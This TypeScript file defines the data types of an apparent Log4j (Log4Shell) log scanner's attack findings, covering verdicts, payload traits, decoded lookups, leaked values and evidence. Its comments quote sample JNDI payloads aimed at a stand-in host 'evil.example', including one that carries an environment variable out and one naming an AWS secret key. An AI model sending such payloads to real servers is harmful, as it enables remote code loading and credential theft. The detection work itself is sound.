import type { Band } from './band.ts'
import type { CveStatus, FindingId, Severity } from './claim.ts'
import type { Instant } from './instant.ts'

/**
 * What a text in a log is.
 *
 * - `fires`: a vulnerable Log4j that logs it looks the name up.
 * - `attempt`: it was meant to, and cannot; `because` says why.
 * - `dos`: it makes an old Log4j fail or run without end.
 * - `evidence`: it is what Log4j or the JVM writes when a lookup was really evaluated.
 */
export type AttackVerdict = 'fires' | 'attempt' | 'dos' | 'evidence'

/** How far an attack is known to have come; the later the further. */
export const outcomes = ['attempt', 'likely', 'callback-seen'] as const
export type Outcome = (typeof outcomes)[number]

/** Something that is noteworthy about how an attack is written. */
export type AttackTrait =
  /** The log shows a harmless text in place of the payload: `${jndi:…:-Mozilla/5.0}`. */
  | 'laundering'
  /** The log event is lost, so that only what stood before Log4j saw the payload: `${java:x}`. */
  | 'suppression'
  /** It ends before its closing brace; what it would do is told as if it did not. */
  | 'truncated'
  /** The payload is not closed where the piece of the record that was read ends. */
  | 'cut'

/** The text as it stands in the log, and what Log4j makes of it. */
export interface AttackLookup {
  /** As written, shortened where it is very long. */
  readonly raw: string
  /** What is looked up: `jndi:ldap://evil.example:1389/a`; the text itself, decoded, where nothing is. */
  readonly meaning: string
  /** `ldap`, `rmi`, `dns` …; `null` if the name has none that a JVM knows. */
  readonly scheme: string | null
  readonly host: string | null
  readonly port: number | null
  readonly path: string | null
  /** For `ldap:///dc=…`: the domain whose SRV records are asked for the server. */
  readonly domain: string | null
  /** Values of the process that are read on the way: `env:AWS_SECRET_ACCESS_KEY`. */
  readonly reads: readonly string[]
  /** How often a vulnerable Log4j looks it up for one logged message. */
  readonly times: number
}

/** A value that the name would carry to whoever is asked. */
export interface AttackLeak {
  /** `env:AWS_SECRET_ACCESS_KEY` */
  readonly read: string
  /** The name with the value's place marked: `ldap://${env:USER}.evil.example/a`. */
  readonly into: string
  /** Whether it looks like a secret, which is to be rotated if the lookup was evaluated. */
  readonly secret: boolean
}

/** The line of a log that the claim rests on. */
export interface LogEvidence {
  readonly kind: 'log'
  readonly source: string
  readonly line: number | null
  readonly byteOffset: number
  /** What it shows, in a few words. */
  readonly says: string
  /** The line itself, shortened. */
  readonly text: string
}

/** What a text became, layer by layer, before Log4j's own evaluation. */
export interface DecodingEvidence {
  readonly kind: 'decoding'
  /** Ids of the layers that were undone, the outermost first. */
  readonly layers: readonly string[]
  readonly text: string
}

/** A record of another log that shows what came of an attempt: a name was asked for, a connection made. */
export interface WitnessEvidence {
  readonly kind: 'witness'
  readonly source: string
  readonly line: number | null
  readonly byteOffset: number
  /** Id of the log format that the record was read by. */
  readonly format: string
  /** As the record says; `null` if it does not. */
  readonly when: Instant | null
  /** What it shows, in a sentence without a final dot; records that show the same are told once, with their number. */
  readonly says: string
  /** The record itself, shortened. */
  readonly text: string
}

export type AttackEvidence = LogEvidence | DecodingEvidence | WitnessEvidence

/** An attack on a lookup, or the trace of one that was evaluated, in a log. */
export interface AttackFinding {
  readonly schema: 'fireline.finding/1'
  readonly id: FindingId
  readonly kind: 'attack'
  readonly at: {
    /** `logs.tar.gz!var/log/access.log`: each `!` one level of nesting; `-` is standard input. */
    readonly source: string
    /** From 1; `null` where the source has no lines, such as a capture of packets. */
    readonly line: number | null
    /** Of the record, in the innermost file, unpacked. */
    readonly byteOffset: number
  }
  /** As the record says; `null` if it does not. */
  readonly when: Instant | null
  /** The address it came from, as the record says; `null` if it does not. */
  readonly from: string | null
  /** `GET /index.html`, and the client's name for itself, where the format has them. */
  readonly request: string | null
  readonly userAgent: string | null
  /** The field of the record: `user agent`, `headers.X-Api-Version`; `null` where the record is a plain line. */
  readonly field: string | null
  /** Id of the log format that the record was read by. */
  readonly format: string
  readonly verdict: AttackVerdict
  readonly because: string
  /** Bands of releases on which it fires; empty unless it does. */
  readonly firesOn: readonly Band[]
  /** The oldest behaviour of the JDK's LDAP URLs that takes the name; `null` where it makes no difference. */
  readonly needsJdk: 'legacy' | 'compat' | null
  readonly lookup: AttackLookup
  readonly traits: readonly AttackTrait[]
  readonly leaks: readonly AttackLeak[]
  /** Commands and addresses of a second stage that the path carries, decoded, defanged. */
  readonly carries: readonly string[]
  readonly outcome: Outcome
  /** The scanner that sent it, if it is a known one: ours by its token, others by their hosts. */
  readonly scanner: string | null
  readonly title: string
  readonly severity: Severity
  readonly cves: readonly CveStatus[]
  readonly evidence: readonly [AttackEvidence, ...AttackEvidence[]]
  readonly by: string
  readonly seenAt: Instant
  readonly remedy: string
}
